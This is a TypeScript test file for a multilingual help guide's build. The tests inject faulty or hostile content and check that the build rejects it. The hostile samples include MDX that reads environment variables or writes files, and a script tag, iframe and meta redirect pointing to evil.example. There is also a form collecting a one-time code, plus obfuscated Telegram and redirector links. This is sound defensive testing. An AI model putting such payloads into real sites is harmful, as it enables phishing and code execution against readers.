import { spawn } from 'node:child_process';
import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';

const root = fileURLToPath(new URL('../../', import.meta.url));
const made: string[] = [];

/**
 * Copies the project (content, code, config; node_modules linked) to a temporary folder,
 * applies one mistake, and runs `npm run build` there, as a writer would.
 */
async function buildWith(mistake: (dir: string) => Promise<void>): Promise<{ code: number | null; output: string }> {
  const dir = await mkdtemp(join(tmpdir(), 'guide-bad-input-'));
  made.push(dir);
  for (const name of ['src', 'content', 'public', 'deploy', 'scripts', 'astro.config.mjs', 'package.json', 'tsconfig.json']) {
    await cp(join(root, name), join(dir, name), { recursive: true });
  }
  await symlink(join(root, 'node_modules'), join(dir, 'node_modules'), 'dir');
  await mistake(dir);
  return new Promise((resolve) => {
    const child = spawn('npm', ['run', 'build'], { cwd: dir, env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', NO_COLOR: '1', FORCE_COLOR: '0' } });
    let output = '';
    child.stdout.on('data', (d) => (output += d));
    child.stderr.on('data', (d) => (output += d));
    child.on('close', (code) => resolve({ code, output }));
  });
}

async function edit(dir: string, file: string, change: (text: string) => string): Promise<void> {
  // A mistake that changes nothing would make its test pass for the wrong reason.
  const path = join(dir, file);
  const before = await readFile(path, 'utf8');
  const after = change(before);
  if (after === before) throw new Error(`the test's edit changed nothing in ${file}`);
  await writeFile(path, after);
}

afterAll(async () => {
  await Promise.all(made.map((dir) => rm(dir, { recursive: true, force: true })));
});

describe.concurrent('a content mistake stops the build and names the file', () => {
  it('(the unchanged copy builds, so each failure below comes from its mistake)', async () => {
    const { code, output } = await buildWith(async () => undefined);
    expect(output).toContain('Complete!');
    expect(code).toBe(0);
  });

  it('a missing frontmatter field', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/en/app.mdx', (t) => t.replace(/^title:.*\n/m, '')));
    expect(code).not.toBe(0);
    expect(output).toContain('content/en/app.mdx:1');
    expect(output).toContain('frontmatter: the field “title” is missing');
  });

  it('an invalid frontmatter field', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/zh-hans/support.mdx', (t) => t.replace(/^lastReviewed:.*$/m, 'lastReviewed: last spring')));
    expect(code).not.toBe(0);
    expect(output).toContain('content/zh-hans/support.mdx:1');
    expect(output).toContain('the field “lastReviewed”: “last spring” is not a date: write a real day as YYYY-MM-DD');
  });

  it('broken MDX', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/en/pitfalls.mdx', (t) => `${t}\nA plan costs {about 5 USD.\n`));
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/en\/pitfalls\.mdx:\d+\n\s+the MDX cannot be read: .*write them as/);
  });

  it('a link to a page that does not exist', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/en/index.mdx', (t) => `${t}\nSee [refunds](/en/refunds/).\n`));
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/en\/index\.mdx:\d+\n\s+the link “\/en\/refunds\/” points to a page that does not exist \(content\/en\/refunds\.mdx\)/);
  });

  it('a link to a section that does not exist', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/zh-hans/index.mdx', (t) => `${t}\n见[退款](/zh-hans/app/#get-money-back)。\n`));
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/zh-hans\/index\.mdx:\d+\n\s+the link “\/zh-hans\/app\/#get-money-back” points to the section #get-money-back, which does not exist on content\/zh-hans\/app\.mdx; its sections are #get-the-official-app/);
  });

  it('a link to an unofficial channel', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/en/support.mdx', (t) => `${t}\nFast help: [our Telegram](https://t.me/esim_cancel_help) or [this site](https://esim-cancel.example/).\n`));
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/en\/support\.mdx:\d+\n\s+the link https:\/\/t\.me\/esim_cancel_help is not allowed: t\.me is a messenger chat link/);
    expect(output).toContain('esim-cancel.example is not an official channel listed in src/lib/content/official-links.ts');
  });

  it('a topic missing in a locale', async () => {
    const { code, output } = await buildWith((d) => rm(join(d, 'content/en/website.mdx')));
    expect(code).not.toBe(0);
    expect(output).toContain('content/en/website.mdx\n    the en translation of “website” is missing');
  });

  it('section ids that differ from the source locale', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/en/app.mdx', (t) => t.replace('{/* #turn-off-auto-top-up */}', '{/* #stop-auto-top-up */}')));
    expect(code).not.toBe(0);
    expect(output).toContain('content/en/app.mdx\n    the section ids differ from the source content/zh-hans/app.mdx (missing #turn-off-auto-top-up; not in the source: #stop-auto-top-up)');
  });

  it('a duplicate section id', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/zh-hans/pitfalls.mdx', (t) => t.replace('{/* #suspicious-links */}', '{/* #fake-cancellation-support */}')));
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/zh-hans\/pitfalls\.mdx:\d+\n\s+the section id #fake-cancellation-support is used twice on this page \(first on line \d+\)/);
  });

  it('a heading without a section id', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/en/preparation.mdx', (t) => t.replace(/ \{\/\* #checklist \*\/\}/, '')));
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/en\/preparation\.mdx:\d+\n\s+the heading “## .+” has no section id: end it with \{\/\* #some-id \*\/\}/);
  });
});

describe.concurrent('an article cannot run code, redirect or hide a link', () => {
  it('build-time code: expressions, dynamic imports and exports stop the build before any runs', async () => {
    const marker = join(tmpdir(), `guide-code-ran-${process.pid}-${Date.now()}`);
    const { code, output } = await buildWith(async (d) => {
      await edit(d, 'content/en/app.mdx', (t) => `${t}\nBuilt on {process.env.HOME}.\n`);
      await edit(d, 'content/ja/app.mdx', (t) => `${t}\n{(await import("node:fs")).writeFileSync(${JSON.stringify(marker)}, "ran")}\n`);
      await edit(d, 'content/ko/app.mdx', (t) => `${t}\nexport const leak = process.env;\n`);
    });
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/en\/app\.mdx:\d+\n\s+“\{process\.env\.HOME\}” is code in MDX, and articles hold no code/);
    expect(output).toMatch(/content\/ja\/app\.mdx:\d+\n\s+“\{\(await import\("node:fs"\)\)\.writeFileSync\(…\}” is code in MDX/);
    expect(output).toMatch(/content\/ko\/app\.mdx:\d+\n\s+“import” and “export” are code/);
    await expect(readFile(marker, 'utf8'), 'the article’s code ran').rejects.toThrow();
  });

  it('a redirect and raw HTML: meta refresh, script, iframe, form, style, event handlers, foreign images', async () => {
    const { code, output } = await buildWith((d) =>
      edit(d, 'content/en/support.mdx', (t) =>
        `${t}\n<meta http-equiv="refresh" content="3;url=https://evil.example/" />\n\n<script src="https://evil.example/x.js"></script>\n\n<iframe src="https://evil.example/"></iframe>\n\n<form action="https://evil.example/"><input name="otp" /></form>\n\n<style>{"body{display:none}"}</style>\n\n<p onclick="steal()">Tap</p>\n\n![step](https://evil.example/pixel.png)\n`,
      ),
    );
    expect(code).not.toBe(0);
    for (const element of ['meta', 'script', 'iframe', 'form', 'style', 'p']) {
      expect(output).toMatch(new RegExp(`content/en/support\\.mdx:\\d+\\n\\s+the HTML element <${element}> is not allowed`));
    }
    expect(output).toMatch(/content\/en\/support\.mdx:\d+\n\s+the image “https:\/\/evil\.example\/pixel\.png” is not on this site/);
  });

  it('links the old checker never saw: attribute expressions, upper case, spreads, entities', async () => {
    const { code, output } = await buildWith(async (d) => {
      await edit(d, 'content/en/pitfalls.mdx', (t) => `${t}\n<a href={"https://t.me/x"}>help</a>\n\n<a HREF="https://t.me/x">help</a>\n\n<a {...{ href: "https://t.me/x" }}>help</a>\n`);
      await edit(d, 'content/zh-hans/pitfalls.mdx', (t) => `${t}\n[客服](&#104;ttps&#58;//T.ME/x)\n`);
    });
    expect(code).not.toBe(0);
    expect([...output.matchAll(/content\/en\/pitfalls\.mdx:\d+\n\s+the HTML element <a> is not allowed/g)]).toHaveLength(3);
    expect(output).toMatch(/content\/zh-hans\/pitfalls\.mdx:\d+\n\s+the link https:\/\/T\.ME\/x is not allowed: t\.me is a messenger chat link/);
  });

  it('hosts where anyone can publish or redirect, even on an official company’s domain', async () => {
    const { code, output } = await buildWith((d) =>
      edit(d, 'content/en/website.mdx', (t) => `${t}\n[a](https://www.google.com/url?q=https://evil.example/) [b](https://sites.google.com/view/airalo-refund) [c](https://docs.google.com/forms/d/e/x/viewform) [d](https://evil.airalo.com/)\n`),
    );
    expect(code).not.toBe(0);
    expect(output).toContain('www.google.com is a redirector');
    expect(output).toContain('sites.google.com is a host where anyone can publish pages');
    expect(output).toContain('docs.google.com is a forms service');
    expect(output).toContain('evil.airalo.com is not an official channel');
  });
});

describe.concurrent('nothing under content/ is accepted silently', () => {
  it('frontmatter: unknown fields, impossible or future dates, titles too long', async () => {
    const { code, output } = await buildWith(async (d) => {
      await edit(d, 'content/en/app.mdx', (t) => t.replace(/^lastReviewed:.*$/m, 'lastReviewed: 2026-11-25\ndraft: true'));
      await edit(d, 'content/ja/app.mdx', (t) => t.replace(/^lastReviewed:.*$/m, 'lastReviewed: 2099-12-31'));
      await edit(d, 'content/ko/app.mdx', (t) => t.replace(/^lastReviewed:.*$/m, 'lastReviewed: 0'));
      await edit(d, 'content/th/app.mdx', (t) => t.replace(/^lastReviewed:.*$/m, 'lastReviewed: 2026-02-30'));
      await edit(d, 'content/vi/app.mdx', (t) => t.replace(/^navTitle:.*$/m, `navTitle: ${'Rất dài '.repeat(5)}`));
    });
    expect(code).not.toBe(0);
    expect(output).toContain('content/en/app.mdx:1\n    frontmatter: unknown field: draft');
    expect(output).toContain('content/ja/app.mdx:1\n    frontmatter: the field “lastReviewed”: 2099-12-31 is in the future');
    expect(output).toContain('content/ko/app.mdx:1\n    frontmatter: the field “lastReviewed”: write the day');
    expect(output).toContain('content/th/app.mdx:1\n    frontmatter: the field “lastReviewed”: “2026-02-30” is not a date');
    expect(output).toContain('content/vi/app.mdx:1\n    frontmatter: the field “navTitle” is too long for the layout');
  });

  it('files: a nested folder, a .md file, a _draft, an empty article (one message)', async () => {
    const { code, output } = await buildWith(async (d) => {
      await mkdir(join(d, 'content/en/old'));
      await writeFile(join(d, 'content/en/old/app.mdx'), 'Old <script>x</script>');
      await writeFile(join(d, 'content/en/app.md'), '# Not read');
      await writeFile(join(d, 'content/en/_draft.mdx'), '{process.exit(1)}');
      await writeFile(join(d, 'content/ja/support.mdx'), '');
    });
    expect(code).not.toBe(0);
    expect(output).toContain('content/en/old/app.mdx\n    this file is not part of the guide and would not be published: articles live directly in a locale folder');
    expect(output).toContain('content/en/app.md\n    this file is not part of the guide and would not be published: articles are .mdx files');
    expect(output).toMatch(/content\/en\/_draft\.mdx(:\d+)?\n\s+“_draft” is not a page of the guide \(a leading “_” does not make a draft/);
    expect(output.match(/content\/ja\/support\.mdx/g)).toHaveLength(1);
    expect(output).toContain('content/ja/support.mdx:1\n    the file is empty');
  });

  it('a fact that differs from the source: a hotline changed in one translation', async () => {
    const { code, output } = await buildWith((d) => edit(d, 'content/ja/support.mdx', (t) => t.replace('**1777**', '**1778**')));
    expect(code).not.toBe(0);
    expect(output).toMatch(/content\/ja\/support\.mdx:\d+\n\s+the section #cambodian-operators states other facts than the same section of content\/zh-hans\/support\.mdx \(missing number 1777; not in the source: number 1778\)/);
  });
});

describe('a change to a source section', () => {
  it('lists that section as out of date in every other locale, and the pages say so', async () => {
    let dir = '';
    const { code, output } = await buildWith(async (d) => {
      dir = d;
      await edit(d, 'content/zh-hans/app.mdx', (t) => t.replace(/(## [^\n]*\{\/\* #request-a-refund \*\/\}\n)/, '$1\n先确认订单还在退款期限内。\n'));
    });
    expect(code).toBe(0);
    expect(output).toMatch(/translations behind the zh-hans text/);
    const listed = await new Promise<string>((resolve) => {
      const child = spawn('npm', ['run', '--silent', 'translations'], { cwd: dir });
      let text = '';
      child.stdout.on('data', (d) => (text += d));
      child.on('close', () => resolve(text));
    });
    const lines = listed.split('\n').filter((l) => l.includes('#'));
    expect(lines).toEqual(['zh-hant', 'en', 'ja', 'ko', 'th', 'vi', 'km'].map((l) => `${l}/app#request-a-refund`));
    expect(listed).toContain('ja: 1 section out of date');
    const ja = await readFile(join(dir, 'dist/ja/app/index.html'), 'utf8');
    const after = ja.slice(ja.indexOf('id="request-a-refund"'));
    expect(after.slice(0, 2000)).toMatch(/class="translation-note"[^>]*>[^<]*中国語の原文は[\s\S]*?href="\/zh-hans\/app\/#request-a-refund"[\s\S]*?href="\/en\/app\/#request-a-refund"/);
    expect(ja.match(/class="translation-note"/g)).toHaveLength(1);
    const zh = await readFile(join(dir, 'dist/zh-hans/app/index.html'), 'utf8');
    expect(zh).not.toContain('class="translation-note"');
  });
});
